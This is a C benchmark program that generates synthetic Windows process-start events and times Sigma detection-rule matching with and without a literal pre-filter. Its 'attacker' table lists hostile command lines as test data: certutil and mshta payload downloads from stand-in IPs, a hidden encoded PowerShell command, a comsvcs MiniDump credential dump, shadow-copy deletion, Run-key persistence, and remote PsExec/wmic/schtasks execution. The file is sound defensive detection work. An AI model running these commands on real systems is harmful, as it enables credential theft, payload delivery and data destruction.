/* sigma_match [-p] [-n EVENTS] [-s SECONDS] RULES...: the Sigma matching
 * micro-benchmark. Loads the rules (files or folders), generates EVENTS
 * process starts (deterministic: mostly a workstation's and a server's
 * everyday programs, one in ten an attacker's command), and matches each,
 * as a Sysmon 1 event and as a Security 4688 event (the 4688 field names),
 * against its candidates with the literal pre-filter off and on, one
 * thread. Prints events per second of the thread's CPU time (a shared
 * machine's other work does not count), rules tested and hits per event;
 * exits 1 when the two runs' hits differ. */
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>

#include "rules/sigma.h"

#define SYSMON "Microsoft-Windows-Sysmon/Operational"
#define NF 26

typedef struct {
    const char *channel;
    uint32_t id;
    const char *name[NF];
    char *value[NF];
    size_t n;
} event;

static const char *ev_get(void *ctx, const char *field)
{
    const event *e = ctx;
    const char *f = tm_sigma_record_field(e->channel, e->id, field);
    for (size_t i = 0; i < e->n; i++)
        if (!strcmp(e->name[i], f))
            return e->value[i];
    return NULL;
}

static bool ev_each(void *ctx, bool (*fn)(void *, const char *), void *arg)
{
    const event *e = ctx;
    for (size_t i = 0; i < e->n; i++)
        if (fn(arg, e->value[i]))
            return true;
    return false;
}

/* ---- the generated process starts ---- */

static uint64_t rng = 88172645463325252ull;
static uint32_t rnd(uint32_t n)
{
    rng ^= rng << 13;
    rng ^= rng >> 7;
    rng ^= rng << 17;
    return (uint32_t)(rng % n);
}

/* image | command line (%u: a number) | parent image | original file name | description */
static const char *const everyday[] = {
    "C:\\Program Files (x86)\\Google\\Update\\GoogleUpdate.exe|\"C:\\Program Files (x86)\\Google\\Update\\GoogleUpdate.exe\" /ua /installsource scheduler|C:\\Windows\\System32\\taskeng.exe|GoogleUpdate.exe|Google Installer",
    "C:\\Windows\\System32\\svchost.exe|C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule|C:\\Windows\\System32\\services.exe|svchost.exe|Host Process for Windows Services",
    "C:\\Windows\\System32\\conhost.exe|\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff -ForceV1|C:\\Windows\\System32\\cmd.exe|CONHOST.EXE|Console Window Host",
    "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe|\"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe\" --type=renderer --lang=en-US --renderer-client-id=%u --mojo-platform-channel-handle=2844 /prefetch:1|C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe|chrome.exe|Google Chrome",
    "C:\\Windows\\System32\\backgroundTaskHost.exe|\"C:\\Windows\\system32\\backgroundTaskHost.exe\" -ServerName:App.AppXmtcan0h2tfbfy7k9kn8hbxb6dmzz1zh0.mca|C:\\Windows\\System32\\svchost.exe|backgroundTaskHost.exe|Background Task Host",
    "C:\\Windows\\System32\\taskhostw.exe|taskhostw.exe Install $(Arg0)|C:\\Windows\\System32\\svchost.exe|taskhostw.exe|Host Process for Windows Tasks",
    "C:\\Windows\\System32\\SearchProtocolHost.exe|\"C:\\Windows\\system32\\SearchProtocolHost.exe\" Global\\UsGthrFltPipeMssGthrPipe%u_ Global\\UsGthrCtrlFltPipeMssGthrPipe%u 1 -2147483646 \"Software\\Microsoft\\Windows Search\"|C:\\Windows\\System32\\SearchIndexer.exe|SearchProtocolHost.exe|Microsoft Windows Search Protocol Host",
    "C:\\Windows\\System32\\wbem\\WmiPrvSE.exe|C:\\Windows\\system32\\wbem\\wmiprvse.exe -secured -Embedding|C:\\Windows\\System32\\svchost.exe|Wmiprvse.exe|WMI Provider Host",
    "C:\\Windows\\explorer.exe|C:\\Windows\\Explorer.EXE|C:\\Windows\\System32\\userinit.exe|EXPLORER.EXE|Windows Explorer",
    "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe|powershell.exe -NoProfile -File C:\\scripts\\health.ps1|C:\\Windows\\System32\\svchost.exe|PowerShell.EXE|Windows PowerShell",
    "C:\\Windows\\System32\\cmd.exe|C:\\Windows\\system32\\cmd.exe /c C:\\scripts\\rotate-logs.cmd|C:\\Windows\\System32\\svchost.exe|Cmd.Exe|Windows Command Processor",
    "C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.2302.7-0\\MpCmdRun.exe|\"C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.2302.7-0\\MpCmdRun.exe\" SignaturesUpdateService -ScheduleJob -UnmanagedUpdate|C:\\Windows\\System32\\svchost.exe|MpCmdRun.exe|Microsoft Malware Protection Command Line Utility",
    "C:\\Program Files\\Git\\cmd\\git.exe|git.exe fetch --all --prune|C:\\Users\\dev\\AppData\\Local\\Programs\\Microsoft VS Code\\Code.exe|git.exe|Git for Windows",
    "C:\\Windows\\System32\\robocopy.exe|robocopy D:\\data \\\\nas01\\backup /MIR /R:1 /W:1|C:\\Windows\\System32\\cmd.exe|robocopy.exe|Microsoft Robocopy",
    "C:\\Windows\\System32\\ipconfig.exe|ipconfig /renew|C:\\Windows\\System32\\svchost.exe|ipconfig.exe|IP Configuration Utility",
    "C:\\Users\\alice\\AppData\\Local\\Microsoft\\OneDrive\\OneDrive.exe|\"C:\\Users\\alice\\AppData\\Local\\Microsoft\\OneDrive\\OneDrive.exe\" /background|C:\\Windows\\explorer.exe|OneDrive.exe|Microsoft OneDrive",
    "C:\\Windows\\System32\\dllhost.exe|C:\\Windows\\system32\\DllHost.exe /Processid:{AB8902B4-09CA-4BB6-B78D-A8F59079A8D5}|C:\\Windows\\System32\\svchost.exe|dllhost.exe|COM Surrogate",
    "C:\\Windows\\System32\\sppsvc.exe|C:\\Windows\\system32\\sppsvc.exe|C:\\Windows\\System32\\services.exe|sppsvc.exe|Microsoft Software Protection Platform Service",
    "C:\\Program Files\\Microsoft SQL Server\\MSSQL15\\MSSQL\\Binn\\sqlservr.exe|\"C:\\Program Files\\Microsoft SQL Server\\MSSQL15\\MSSQL\\Binn\\sqlservr.exe\" -sMSSQLSERVER|C:\\Windows\\System32\\services.exe|sqlservr.exe|SQL Server Windows NT - 64 Bit",
    "C:\\Program Files\\Python311\\python.exe|python.exe C:\\jobs\\report_%u.py --out D:\\reports|C:\\Windows\\System32\\cmd.exe|python.exe|Python",
};
static const char *const attacker[] = {
    "C:\\Windows\\System32\\whoami.exe|whoami /priv|C:\\Windows\\System32\\cmd.exe|whoami.exe|whoami - displays logged on user information",
    "C:\\Windows\\System32\\net.exe|net user /domain|C:\\Windows\\System32\\cmd.exe|net.exe|Net Command",
    "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe|powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA|C:\\Windows\\System32\\cmd.exe|PowerShell.EXE|Windows PowerShell",
    "C:\\Windows\\System32\\certutil.exe|certutil -urlcache -split -f http://10.0.0.%u/a.exe C:\\Users\\Public\\a.exe|C:\\Windows\\System32\\cmd.exe|CertUtil.exe|CertUtil.exe",
    "C:\\Windows\\System32\\schtasks.exe|schtasks /create /s srv%u /tn Updater /tr C:\\Windows\\Temp\\u.bat /sc once /st 23:00|C:\\Windows\\System32\\cmd.exe|schtasks.exe|Task Scheduler Configuration Tool",
    "C:\\Windows\\System32\\wbem\\WMIC.exe|wmic /node:srv%u process call create \"cmd.exe /c whoami\"|C:\\Windows\\System32\\cmd.exe|wmic.exe|WMI Commandline Utility",
    "C:\\Windows\\System32\\reg.exe|reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v upd /t REG_SZ /d C:\\Users\\Public\\u.exe /f|C:\\Windows\\System32\\cmd.exe|reg.exe|Registry Console Tool",
    "C:\\Windows\\System32\\vssadmin.exe|vssadmin delete shadows /all /quiet|C:\\Windows\\System32\\cmd.exe|VSSADMIN.EXE|Command Line Interface for Microsoft Volume Shadow Copy Service",
    "C:\\Windows\\System32\\rundll32.exe|rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump %u C:\\Windows\\Temp\\l.dmp full|C:\\Windows\\System32\\cmd.exe|RUNDLL32.EXE|Windows host process (Rundll32)",
    "C:\\Windows\\System32\\mshta.exe|mshta http://198.51.100.%u/x.hta|C:\\Windows\\explorer.exe|MSHTA.EXE|Microsoft (R) HTML Application host",
    "C:\\Windows\\System32\\nltest.exe|nltest /dclist:corp.local|C:\\Windows\\System32\\cmd.exe|nltestrk.exe|Microsoft Logon Server Test Utility",
    "C:\\Tools\\PsExec.exe|PsExec.exe \\\\srv%u -accepteula -s cmd /c \"ipconfig /all\"|C:\\Windows\\System32\\cmd.exe|psexec.c|Execute processes remotely",
};

/* The template with each "%u" replaced by one random number. */
static char *fmt_num(const char *tmpl)
{
    char buf[1024], num[16];
    snprintf(num, sizeof num, "%u", 1 + rnd(60000));
    size_t k = 0;
    for (const char *p = tmpl; *p && k + sizeof num < sizeof buf; p++) {
        if (p[0] == '%' && p[1] == 'u') {
            k += (size_t)snprintf(buf + k, sizeof buf - k, "%s", num);
            p++;
        } else {
            buf[k++] = *p;
        }
    }
    buf[k] = '\0';
    return strdup(buf);
}

static void put(event *e, const char *name, char *value)
{
    e->name[e->n] = name;
    e->value[e->n++] = value;
}

/* One process start; as4688: with Security 4688's field names. */
static void make_event(event *e, bool as4688)
{
    const char *t = rnd(10) == 0 ? attacker[rnd(sizeof attacker / sizeof *attacker)]
                                 : everyday[rnd(sizeof everyday / sizeof *everyday)];
    char buf[1024], *part[5];
    snprintf(buf, sizeof buf, "%s", t);
    char *p = buf;
    for (int i = 0; i < 5; i++) {
        part[i] = p;
        p = strchr(p, '|');
        if (p)
            *p++ = '\0';
        else
            p = part[i] + strlen(part[i]);
    }
    static const char *const users[] = {"NT AUTHORITY\\SYSTEM", "CORP\\alice", "CORP\\bob", "NT AUTHORITY\\NETWORK SERVICE"};
    const char *user = users[rnd(4)];
    memset(e, 0, sizeof *e);
    char num[160];
    if (as4688) {
        e->channel = "Security";
        e->id = 4688;
        put(e, "EventID", strdup("4688"));
        put(e, "Channel", strdup("Security"));
        put(e, "Provider_Name", strdup("Microsoft-Windows-Security-Auditing"));
        put(e, "Computer", strdup("ws01.corp.local"));
        put(e, "SubjectUserSid", strdup("S-1-5-18"));
        put(e, "SubjectUserName", strdup(strchr(user, '\\') + 1));
        put(e, "SubjectDomainName", strdup("CORP"));
        snprintf(num, sizeof num, "0x%x", 0x3e7 + rnd(100000));
        put(e, "SubjectLogonId", strdup(num));
        snprintf(num, sizeof num, "0x%x", 4 + rnd(60000));
        put(e, "NewProcessId", strdup(num));
        put(e, "NewProcessName", strdup(part[0]));
        put(e, "TokenElevationType", strdup("%%1936"));
        snprintf(num, sizeof num, "0x%x", 4 + rnd(60000));
        put(e, "ProcessId", strdup(num));
        put(e, "CommandLine", fmt_num(part[1]));
        put(e, "TargetUserSid", strdup("S-1-0-0"));
        put(e, "TargetUserName", strdup("-"));
        put(e, "ParentProcessName", strdup(part[2]));
        put(e, "MandatoryLabel", strdup("S-1-16-12288"));
        return;
    }
    e->channel = SYSMON;
    e->id = 1;
    put(e, "EventID", strdup("1"));
    put(e, "Channel", strdup(SYSMON));
    put(e, "Provider_Name", strdup("Microsoft-Windows-Sysmon"));
    put(e, "Computer", strdup("ws01.corp.local"));
    snprintf(num, sizeof num, "2024-03-02 %02u:%02u:%02u.%03u", rnd(24), rnd(60), rnd(60), rnd(1000));
    put(e, "UtcTime", strdup(num));
    snprintf(num, sizeof num, "{c1b49677-%04x-5c7a-0000-0010%08x}", rnd(65536), rnd(1u << 31));
    put(e, "ProcessGuid", strdup(num));
    snprintf(num, sizeof num, "%u", 4 + rnd(60000));
    put(e, "ProcessId", strdup(num));
    put(e, "Image", strdup(part[0]));
    put(e, "FileVersion", strdup("10.0.19041.1"));
    put(e, "Description", strdup(part[4]));
    put(e, "Product", strdup("Microsoft\xc2\xae Windows\xc2\xae Operating System"));
    put(e, "Company", strdup("Microsoft Corporation"));
    put(e, "OriginalFileName", strdup(part[3]));
    put(e, "CommandLine", fmt_num(part[1]));
    put(e, "CurrentDirectory", strdup("C:\\Windows\\system32\\"));
    put(e, "User", strdup(user));
    snprintf(num, sizeof num, "{c1b49677-3fb9-5c09-0000-0020%08x}", rnd(1u << 31));
    put(e, "LogonGuid", strdup(num));
    snprintf(num, sizeof num, "0x%x", 0x3e7 + rnd(100000));
    put(e, "LogonId", strdup(num));
    put(e, "TerminalSessionId", strdup(rnd(2) ? "0" : "1"));
    put(e, "IntegrityLevel", strdup(rnd(3) ? "Medium" : "High"));
    snprintf(num, sizeof num, "MD5=%08X%08X%08X%08X,SHA256=%08X%08X%08X%08X%08X%08X%08X%08X", rnd(1u << 31),
             rnd(1u << 31), rnd(1u << 31), rnd(1u << 31), rnd(1u << 31), rnd(1u << 31), rnd(1u << 31), rnd(1u << 31),
             rnd(1u << 31), rnd(1u << 31), rnd(1u << 31), rnd(1u << 31));
    put(e, "Hashes", strdup(num));
    snprintf(num, sizeof num, "{c1b49677-6b43-5c78-0000-0010%08x}", rnd(1u << 31));
    put(e, "ParentProcessGuid", strdup(num));
    snprintf(num, sizeof num, "%u", 4 + rnd(60000));
    put(e, "ParentProcessId", strdup(num));
    put(e, "ParentImage", strdup(part[2]));
    put(e, "ParentCommandLine", strdup(part[2]));
    put(e, "ParentUser", strdup(user));
}

/* ---- the runs ---- */

static double now(void) /* CPU seconds of this thread */
{
    struct timespec ts;
    clock_gettime(CLOCK_THREAD_CPUTIME_ID, &ts);
    return (double)ts.tv_sec + (double)ts.tv_nsec / 1e9;
}

typedef struct {
    uint64_t sum; /* of (event, rule index) of the hits: compared between runs */
    size_t hits;
} hits_t;

static void on_hit(void *arg, const tm_sigma_rule *r)
{
    hits_t *h = arg;

    h->hits++;
    h->sum = h->sum * 1000003u + r->index + 1;
}

/* Matches every event, again until secs have passed; prints the figures. */
static hits_t run(const tm_sigma_set *s, event *ev, size_t n, double secs, const char *what)
{
    hits_t h = {0}, once = {0};
    size_t tested = 0, events = 0;
    double t0 = now(), t1;
    do {
        for (size_t i = 0; i < n; i++) {
            tm_sigma_event e = {ev_get, ev_each, &ev[i]};
            hits_t *into = events < n ? &once : &h;
            tested += tm_sigma_scan(s, ev[i].channel, ev[i].id, TM_SIGMA_INFORMATIONAL, &e, on_hit, into);
            events++;
        }
        t1 = now();
    } while (t1 - t0 < secs);
    printf("  %-28s %9.0f events/CPU s  %8.1f rules tested/event  %5.2f hits/event\n", what, (double)events / (t1 - t0),
           (double)tested / (double)events, (double)once.hits / (double)n);
    return once;
}

int main(int argc, char **argv)
{
    size_t n = 2000;
    double secs = 2;
    int o;
    bool only_pf = false;
    while ((o = getopt(argc, argv, "n:s:p")) != -1) {
        if (o == 'p')
            only_pf = true;
        else if (o == 'n')
            n = strtoul(optarg, NULL, 10);
        else if (o == 's')
            secs = strtod(optarg, NULL);
        else
            return 2;
    }
    if (optind >= argc || n == 0) {
        fprintf(stderr, "usage: sigma_match [-p] [-n EVENTS] [-s SECONDS] RULES...\n");
        return 2;
    }
    tm_sigma_set *s = tm_sigma_set_new();
    tm_sigma_report rep = {0};
    double t0 = now();
    for (int i = optind; i < argc; i++)
        if (!tm_sigma_load_path(s, argv[i], &rep))
            fprintf(stderr, "sigma_match: cannot read %s\n", argv[i]);
    double t1 = now();
    tm_sigma_set_index(s);
    double t2 = now();
    size_t skipped = 0;
    for (int k = 0; k < TM_SIGMA_SKIP_NKINDS; k++)
        skipped += rep.skipped[k];
    size_t n1, n4;
    tm_sigma_candidates(s, SYSMON, 1, &n1);
    tm_sigma_candidates(s, "Security", 4688, &n4);
    printf("rules: %zu loaded, %zu skipped, %zu errors; load %.2f CPU s, index and pre-filters %.0f CPU ms, %.1f MiB\n",
           rep.loaded, skipped, rep.errors, t1 - t0, (t2 - t1) * 1e3,
           (double)tm_sigma_prefilter_bytes(s) / 1048576.0);
    tm_sigma_report_free(&rep);
    int rc = 0;
    for (int pass = 0; pass < 2; pass++) {
        bool as4688 = pass == 1;
        rng = 88172645463325252ull;
        event *ev = calloc(n, sizeof *ev);
        for (size_t i = 0; i < n; i++)
            make_event(&ev[i], as4688);
        printf("%zu %s events, %zu candidates each:\n", n, as4688 ? "Security 4688" : "Sysmon 1", as4688 ? n4 : n1);
        tm_sigma_set_prefilter(s, false);
        hits_t off = only_pf ? (hits_t){0} : run(s, ev, n, secs, "every candidate tested");
        tm_sigma_set_prefilter(s, true);
        hits_t on = run(s, ev, n, secs, "literal pre-filter");
        if (only_pf) {
        } else if (off.hits != on.hits || off.sum != on.sum) {
            printf("  THE HITS DIFFER: %zu without the pre-filter, %zu with it\n", off.hits, on.hits);
            rc = 1;
        } else {
            printf("  same hits with and without the pre-filter (%zu)\n", on.hits);
        }
        for (size_t i = 0; i < n; i++)
            for (size_t k = 0; k < ev[i].n; k++)
                free(ev[i].value[k]);
        free(ev);
    }
    tm_sigma_set_free(s);
    return rc;
}
